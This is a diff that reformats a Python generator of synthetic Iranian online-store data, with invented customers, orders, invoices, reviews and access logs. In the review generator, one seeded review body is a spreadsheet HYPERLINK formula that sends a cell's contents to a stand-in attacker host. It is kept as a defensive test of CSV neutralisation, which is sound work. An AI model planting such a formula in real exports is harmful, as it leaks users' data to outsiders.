@@ -34,28 +34,94 @@ _ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
 _TO_ARABIC_LETTERS = str.maketrans({"ی": "ي", "ک": "ك"})
 
 PLACES = [  # province, city, landline area code
-    ("تهران", "تهران", "021"), ("اصفهان", "اصفهان", "031"), ("خراسان رضوی", "مشهد", "051"),
-    ("فارس", "شیراز", "071"), ("آذربایجان شرقی", "تبریز", "041"), ("البرز", "کرج", "026"),
-    ("خوزستان", "اهواز", "061"), ("قم", "قم", "025"), ("کرمانشاه", "کرمانشاه", "083"),
-    ("گیلان", "رشت", "013"), ("یزد", "یزد", "035"), ("کرمان", "کرمان", "034"),
+    ("تهران", "تهران", "021"),
+    ("اصفهان", "اصفهان", "031"),
+    ("خراسان رضوی", "مشهد", "051"),
+    ("فارس", "شیراز", "071"),
+    ("آذربایجان شرقی", "تبریز", "041"),
+    ("البرز", "کرج", "026"),
+    ("خوزستان", "اهواز", "061"),
+    ("قم", "قم", "025"),
+    ("کرمانشاه", "کرمانشاه", "083"),
+    ("گیلان", "رشت", "013"),
+    ("یزد", "یزد", "035"),
+    ("کرمان", "کرمان", "034"),
 ]
-STREETS = ["خیابان ولیعصر", "خیابان انقلاب", "بلوار کشاورز", "خیابان آزادی", "خیابان شریعتی", "بلوار فردوس",
-           "خیابان چهارباغ", "خیابان امام رضا", "بلوار چمران", "خیابان طالقانی", "خیابان حافظ", "خیابان مطهری"]
-MOBILE_PREFIXES = ["0912", "0919", "0935", "0936", "0937", "0938", "0939", "0901", "0902", "0910", "0913",
-                   "0914", "0915", "0916", "0917", "0918", "0990", "0921"]
-PRODUCTS = ["گوشی موبایل سامسونگ", "هدفون بی‌سیم", "کتری برقی", "کتاب بوف کور", "فرش ماشینی ۷۰۰ شانه",
-            "لپ‌تاپ لنوو", "ساعت هوشمند", "زعفران قائنات", "Espresso machine", "Running shoes"]
-REVIEW_BODIES = ["کیفیت عالی بود و به‌موقع رسید.", "بسته‌بندی آسیب دیده بود.", "نسبت به قیمت خوب است.",
-                 "Arrived on time, works as described.", "رنگ با عکس فرق داشت.", "-۱ ستاره به خاطر تأخیر ارسال",
-                 "+ پیشنهاد می‌کنم", "@پشتیبانی لطفا پاسخ دهید"]
+STREETS = [
+    "خیابان ولیعصر",
+    "خیابان انقلاب",
+    "بلوار کشاورز",
+    "خیابان آزادی",
+    "خیابان شریعتی",
+    "بلوار فردوس",
+    "خیابان چهارباغ",
+    "خیابان امام رضا",
+    "بلوار چمران",
+    "خیابان طالقانی",
+    "خیابان حافظ",
+    "خیابان مطهری",
+]
+MOBILE_PREFIXES = [
+    "0912",
+    "0919",
+    "0935",
+    "0936",
+    "0937",
+    "0938",
+    "0939",
+    "0901",
+    "0902",
+    "0910",
+    "0913",
+    "0914",
+    "0915",
+    "0916",
+    "0917",
+    "0918",
+    "0990",
+    "0921",
+]
+PRODUCTS = [
+    "گوشی موبایل سامسونگ",
+    "هدفون بی‌سیم",
+    "کتری برقی",
+    "کتاب بوف کور",
+    "فرش ماشینی ۷۰۰ شانه",
+    "لپ‌تاپ لنوو",
+    "ساعت هوشمند",
+    "زعفران قائنات",
+    "Espresso machine",
+    "Running shoes",
+]
+REVIEW_BODIES = [
+    "کیفیت عالی بود و به‌موقع رسید.",
+    "بسته‌بندی آسیب دیده بود.",
+    "نسبت به قیمت خوب است.",
+    "Arrived on time, works as described.",
+    "رنگ با عکس فرق داشت.",
+    "-۱ ستاره به خاطر تأخیر ارسال",
+    "+ پیشنهاد می‌کنم",
+    "@پشتیبانی لطفا پاسخ دهید",
+]
 USER_AGENTS = [
-    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/120.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.2 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/121.0 Safari/537.36",
     "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
     "DigikalaApp/2.9.1 (Android 12)",
 ]
-PATHS = ["/", "/product/{n}", "/cart", "/checkout", "/profile", "/orders", "/search?q=%D9%87%D8%AF%D9%81%D9%88%D9%86"]
+PATHS = [
+    "/",
+    "/product/{n}",
+    "/cart",
+    "/checkout",
+    "/profile",
+    "/orders",
+    "/search?q=%D9%87%D8%AF%D9%81%D9%88%D9%86",
+]
 IP_PREFIXES = ["5.112", "2.176", "37.98", "91.98", "151.238", "185.120", "94.182", "78.39"]
 
 
@@ -82,26 +148,75 @@ def _nid(first_nine: str) -> str:
 
 
 PERSONAS = [
-    Persona(1, "مریم", "رضایی", _nid("001234567"), "+989121234567", "maryam.rezaei@example.ir",
-            stored_national_id=_nid("001234567").translate(_PERSIAN), stored_mobile="+98 912 123 4567",
-            stored_email="maryam.rezaei@example.ir", landline="+982188776655", stored_landline="021-88776655",
-            username="maryam.rezaei"),
-    Persona(2, "Sara", "Ahmadi", _nid("227654321"), "+989351112233", "sara.ahmadi@example.com",
-            stored_national_id=_nid("227654321"), stored_mobile="۰۹۳۵۱۱۱۲۲۳۳",
-            stored_email="SARA.AHMADI@EXAMPLE.COM", username="sara_ahmadi"),
-    Persona(3, "علی", "کریمی", _nid("452198765"), "+989191234500", "ali.karimi@example.ir",
-            stored_national_id=_nid("452198765").translate(_ARABIC_INDIC), stored_mobile="0098-919-123-4500",
-            stored_email="Ali.Karimi@Example.ir", landline="+983132223344", stored_landline="۰۳۱۳۲۲۲۳۳۴۴",
-            username="ali.karimi"),
+    Persona(
+        1,
+        "مریم",
+        "رضایی",
+        _nid("001234567"),
+        "+989121234567",
+        "maryam.rezaei@example.ir",
+        stored_national_id=_nid("001234567").translate(_PERSIAN),
+        stored_mobile="+98 912 123 4567",
+        stored_email="maryam.rezaei@example.ir",
+        landline="+982188776655",
+        stored_landline="021-88776655",
+        username="maryam.rezaei",
+    ),
+    Persona(
+        2,
+        "Sara",
+        "Ahmadi",
+        _nid("227654321"),
+        "+989351112233",
+        "sara.ahmadi@example.com",
+        stored_national_id=_nid("227654321"),
+        stored_mobile="۰۹۳۵۱۱۱۲۲۳۳",
+        stored_email="SARA.AHMADI@EXAMPLE.COM",
+        username="sara_ahmadi",
+    ),
+    Persona(
+        3,
+        "علی",
+        "کریمی",
+        _nid("452198765"),
+        "+989191234500",
+        "ali.karimi@example.ir",
+        stored_national_id=_nid("452198765").translate(_ARABIC_INDIC),
+        stored_mobile="0098-919-123-4500",
+        stored_email="Ali.Karimi@Example.ir",
+        landline="+983132223344",
+        stored_landline="۰۳۱۳۲۲۲۳۳۴۴",
+        username="ali.karimi",
+    ),
     # Two members of one household share a landline: matching it is ambiguous by nature.
-    Persona(4, "زهرا", "موسوی", _nid("067123456"), "+989361234567", "zahra.mousavi@example.ir",
-            stored_national_id=_nid("067123456"), stored_mobile="9361234567",
-            stored_email="zahra.mousavi@example.ir", landline="+982122334455", stored_landline="+982122334455",
-            username="zahra.m"),
-    Persona(5, "حسین", "موسوی", _nid("067123457"), "+989371234567", "hossein.mousavi@example.ir",
-            stored_national_id=_nid("067123457"), stored_mobile="09371234567",
-            stored_email="hossein.mousavi@example.ir", landline="+982122334455", stored_landline="021 2233 4455",
-            username="hossein.m"),
+    Persona(
+        4,
+        "زهرا",
+        "موسوی",
+        _nid("067123456"),
+        "+989361234567",
+        "zahra.mousavi@example.ir",
+        stored_national_id=_nid("067123456"),
+        stored_mobile="9361234567",
+        stored_email="zahra.mousavi@example.ir",
+        landline="+982122334455",
+        stored_landline="+982122334455",
+        username="zahra.m",
+    ),
+    Persona(
+        5,
+        "حسین",
+        "موسوی",
+        _nid("067123457"),
+        "+989371234567",
+        "hossein.mousavi@example.ir",
+        stored_national_id=_nid("067123457"),
+        stored_mobile="09371234567",
+        stored_email="hossein.mousavi@example.ir",
+        landline="+982122334455",
+        stored_landline="021 2233 4455",
+        username="hossein.m",
+    ),
 ]
 
 
@@ -117,16 +232,26 @@ class StoreGenerator:
     def __init__(self, *, customers: int, heavy_rows: int, seed: int, dialect_name: str) -> None:
         self.customers = max(customers, len(PERSONAS))
         self.heavy_rows = heavy_rows
-        self.random = random.Random(seed)
+        self.random = random.Random(seed)  # noqa: S311 (demo data: reproducible, not secret)
         self.seed = seed
         self.dialect_name = dialect_name
         self.fa = Faker("fa_IR")
         self.en = Faker("en_US")
         self.fa.seed_instance(seed)
         self.en.seed_instance(seed + 1)
-        self.tables: dict[str, list[tuple[Any, ...]]] = {name: [] for name in (
-            "customers", "addresses", "orders", "order_recipients", "invoices", "reviews", "review_edits",
-            "marketing_consents")}
+        self.tables: dict[str, list[tuple[Any, ...]]] = {
+            name: []
+            for name in (
+                "customers",
+                "addresses",
+                "orders",
+                "order_recipients",
+                "invoices",
+                "reviews",
+                "review_edits",
+                "marketing_consents",
+            )
+        }
         self.access_counts: dict[int, int] = {}
         self._ids: dict[str, int] = {}
 
@@ -185,7 +310,9 @@ class StoreGenerator:
     def ip(self) -> str:
         if self.random.random() < 0.08:
             return "2a01:5ec0:{:x}:{:x}::{:x}".format(*(self.random.randrange(65536) for _ in range(3)))
-        return f"{self.random.choice(IP_PREFIXES)}.{self.random.randrange(256)}.{self.random.randrange(1, 255)}"
+        return (
+            f"{self.random.choice(IP_PREFIXES)}.{self.random.randrange(256)}.{self.random.randrange(1, 255)}"
+        )
 
     def cookie(self) -> str:
         return f"{self.random.getrandbits(128):032x}"
@@ -216,63 +343,123 @@ class StoreGenerator:
                     first, last = first.translate(_TO_ARABIC_LETTERS), last.translate(_TO_ARABIC_LETTERS)
                 nid = self.messy_digits(self.national_id())
                 mobile = self.messy_mobile(self.mobile())
-                landline = self.messy_landline(self.landline(place[2])) if self.random.random() < 0.6 else None
+                landline = (
+                    self.messy_landline(self.landline(place[2])) if self.random.random() < 0.6 else None
+                )
                 username = f"user{customer_id:06d}"
-                email = f"{username}@{self.random.choice(['gmail.com', 'yahoo.com', 'chmail.ir', 'example.ir'])}"
+                email = (
+                    f"{username}@{self.random.choice(['gmail.com', 'yahoo.com', 'chmail.ir', 'example.ir'])}"
+                )
                 if self.random.random() < 0.15:
                     email = email.upper()
             birth = dt.date(1950, 1, 1) + dt.timedelta(days=self.random.randrange(365 * 55))
-            self.tables["customers"].append((
-                customer_id, username, first, last, nid,
-                birth if self.dialect_name != "sqlite" else birth.isoformat(),
-                mobile, landline, email, self.password_hash(), _ts(registered, self.dialect_name),
-            ))
-            address_ids = [self._address(customer_id, place, registered, landline) for _ in range(self.random.randint(1, 2))]
+            self.tables["customers"].append(
+                (
+                    customer_id,
+                    username,
+                    first,
+                    last,
+                    nid,
+                    birth if self.dialect_name != "sqlite" else birth.isoformat(),
+                    mobile,
+                    landline,
+                    email,
+                    self.password_hash(),
+                    _ts(registered, self.dialect_name),
+                )
+            )
+            address_ids = [
+                self._address(customer_id, place, registered, landline)
+                for _ in range(self.random.randint(1, 2))
+            ]
             for _ in range(self.random.randint(0, 5) if customer_id != HEAVY_CUSTOMER_ID else 6):
                 self._order(customer_id, first, last, nid, address_ids[0], registered)
             for _ in range(self.random.randint(0, 3) if customer_id != HEAVY_CUSTOMER_ID else 3):
                 self._review(customer_id, registered)
             for channel in ("email", "sms"):
-                self.tables["marketing_consents"].append((
-                    self._next_id("marketing_consents"), customer_id, channel, self.random.random() < 0.5,
-                    _ts(self.moment(registered), self.dialect_name),
-                ))
+                self.tables["marketing_consents"].append(
+                    (
+                        self._next_id("marketing_consents"),
+                        customer_id,
+                        channel,
+                        self.random.random() < 0.5,
+                        _ts(self.moment(registered), self.dialect_name),
+                    )
+                )
             self.access_counts[customer_id] = (
-                self.heavy_rows if customer_id == HEAVY_CUSTOMER_ID and self.heavy_rows else self.random.randint(5, 40)
+                self.heavy_rows
+                if customer_id == HEAVY_CUSTOMER_ID and self.heavy_rows
+                else self.random.randint(5, 40)
             )
 
-    def _address(self, customer_id: int, place: tuple[str, str, str], registered: dt.datetime, landline: str | None) -> int:
+    def _address(
+        self, customer_id: int, place: tuple[str, str, str], registered: dt.datetime, landline: str | None
+    ) -> int:
         address_id = self._next_id("addresses")
-        street = f"{self.random.choice(STREETS)}، کوچه {self.random.randint(1, 40)}، پلاک {self.random.randint(1, 200)}"
-        self.tables["addresses"].append((
-            address_id, customer_id, self.random.choice(["خانه", "محل کار"]), place[0], place[1],
-            street.translate(_PERSIAN), self.postal_code(), landline, _ts(registered, self.dialect_name),
-        ))
+        alley, number = self.random.randint(1, 40), self.random.randint(1, 200)
+        street = f"{self.random.choice(STREETS)}، کوچه {alley}، پلاک {number}"
+        self.tables["addresses"].append(
+            (
+                address_id,
+                customer_id,
+                self.random.choice(["خانه", "محل کار"]),
+                place[0],
+                place[1],
+                street.translate(_PERSIAN),
+                self.postal_code(),
+                landline,
+                _ts(registered, self.dialect_name),
+            )
+        )
         return address_id
 
-    def _order(self, customer_id: int, first: str, last: str, nid: str, address_id: int, registered: dt.datetime) -> None:
+    def _order(
+        self, customer_id: int, first: str, last: str, nid: str, address_id: int, registered: dt.datetime
+    ) -> None:
         order_id = self._next_id("orders")
         placed = self.moment(registered)
         total = self.random.randrange(500_000, 150_000_000, 10_000)
         status = self.random.choice(["delivered", "delivered", "delivered", "shipped", "cancelled"])
-        self.tables["orders"].append((
-            order_id, customer_id, f"SP-{order_id + 10_000_000:08d}", _ts(placed, self.dialect_name), status, total,
-            address_id,
-        ))
+        self.tables["orders"].append(
+            (
+                order_id,
+                customer_id,
+                f"SP-{order_id + 10_000_000:08d}",
+                _ts(placed, self.dialect_name),
+                status,
+                total,
+                address_id,
+            )
+        )
         # Some orders go to someone else: a gift, a relative (the policy's third-party recipient).
         if self.random.random() < 0.2 or (customer_id == HEAVY_CUSTOMER_ID and order_id % 2 == 0):
             place = self.random.choice(PLACES)
-            self.tables["order_recipients"].append((
-                self._next_id("order_recipients"), order_id, f"{self.fa.first_name()} {self.fa.last_name()}",
-                self.mobile(), place[0], place[1], f"{self.random.choice(STREETS)}، پلاک {self.random.randint(1, 90)}",
-                self.postal_code(),
-            ))
+            self.tables["order_recipients"].append(
+                (
+                    self._next_id("order_recipients"),
+                    order_id,
+                    f"{self.fa.first_name()} {self.fa.last_name()}",
+                    self.mobile(),
+                    place[0],
+                    place[1],
+                    f"{self.random.choice(STREETS)}، پلاک {self.random.randint(1, 90)}",
+                    self.postal_code(),
+                )
+            )
         if status != "cancelled":
             tax = total * 10 // 110
-            self.tables["invoices"].append((
-                self._next_id("invoices"), order_id, f"INV-{order_id + 50_000_000}",
-                _ts(placed + dt.timedelta(hours=1), self.dialect_name), f"{first} {last}", nid, total, tax,
-            ))
+            self.tables["invoices"].append(
+                (
+                    self._next_id("invoices"),
+                    order_id,
+                    f"INV-{order_id + 50_000_000}",
+                    _ts(placed + dt.timedelta(hours=1), self.dialect_name),
+                    f"{first} {last}",
+                    nid,
+                    total,
+                    tax,
+                )
+            )
 
     def _review(self, customer_id: int, registered: dt.datetime) -> None:
         review_id = self._next_id("reviews")
@@ -281,17 +468,30 @@ class StoreGenerator:
         if customer_id == HEAVY_CUSTOMER_ID and review_id == 1:
             body = '=HYPERLINK("http://evil.example/?x="&A1,"جزئیات")'  # a formula, to be neutralised in CSV
         edits = self.random.randint(0, 2) if customer_id != HEAVY_CUSTOMER_ID else 2
-        self.tables["reviews"].append((
-            review_id, customer_id, self.random.choice(PRODUCTS), self.random.randint(1, 5), body,
-            "published" if edits < 2 else "edited_by_support", _ts(created, self.dialect_name),
-        ))
+        self.tables["reviews"].append(
+            (
+                review_id,
+                customer_id,
+                self.random.choice(PRODUCTS),
+                self.random.randint(1, 5),
+                body,
+                "published" if edits < 2 else "edited_by_support",
+                _ts(created, self.dialect_name),
+            )
+        )
         previous = body + " !!!"
         for index in range(edits):
             editor, reason = ("customer", "") if index == 0 else ("support", "حذف عبارات خلاف قوانین سایت")
-            self.tables["review_edits"].append((
-                self._next_id("review_edits"), review_id, _ts(created + dt.timedelta(days=index + 1), self.dialect_name),
-                editor, previous, reason,
-            ))
+            self.tables["review_edits"].append(
+                (
+                    self._next_id("review_edits"),
+                    review_id,
+                    _ts(created + dt.timedelta(days=index + 1), self.dialect_name),
+                    editor,
+                    previous,
+                    reason,
+                )
+            )
 
     def access_log(self) -> Iterator[tuple[Any, ...]]:
         """Generated lazily: the heavy customer's rows stream straight into the database."""
@@ -305,8 +505,14 @@ class StoreGenerator:
                 at = WINDOW_START + dt.timedelta(seconds=int(index * step + self.random.random() * step))
                 path = self.random.choice(PATHS).format(n=self.random.randrange(1000, 99999))
                 yield (
-                    row_id, customer_id, _ts(at, self.dialect_name), self.ip(), self.random.choice(USER_AGENTS),
-                    self.cookie(), path, self.random.choice((200, 200, 200, 302, 404)),
+                    row_id,
+                    customer_id,
+                    _ts(at, self.dialect_name),
+                    self.ip(),
+                    self.random.choice(USER_AGENTS),
+                    self.cookie(),
+                    path,
+                    self.random.choice((200, 200, 200, 302, 404)),
                 )
 
 
@@ -329,7 +535,9 @@ def _load(conn: StoreConnection, table: str, rows: Iterable[Sequence[Any]]) -> i
                 copy.write_row(row)
                 count += 1
         return count
-    sql = f"INSERT INTO {q(table)} ({', '.join(q(c) for c in columns)}) VALUES ({', '.join([conn.dialect.placeholder] * len(columns))})"
+    names = ", ".join(q(c) for c in columns)
+    placeholders = ", ".join([conn.dialect.placeholder] * len(columns))
+    sql = f"INSERT INTO {q(table)} ({names}) VALUES ({placeholders})"  # noqa: S608 (names from schema.py)
     batch: list[Sequence[Any]] = []
     for row in rows:
         batch.append(row)
@@ -359,7 +567,9 @@ def seed_store(
     dialect = dialect_of(database_url)
     if dialect is SQLITE:
         Path(sqlite_path(database_url)).parent.mkdir(parents=True, exist_ok=True)
-    generator = StoreGenerator(customers=customers, heavy_rows=heavy_customer_rows, seed=seed, dialect_name=dialect.name)
+    generator = StoreGenerator(
+        customers=customers, heavy_rows=heavy_customer_rows, seed=seed, dialect_name=dialect.name
+    )
     generator.build()
     counts: dict[str, int] = {}
     with connect(database_url, source_name=SOURCE, readonly=False) as conn:
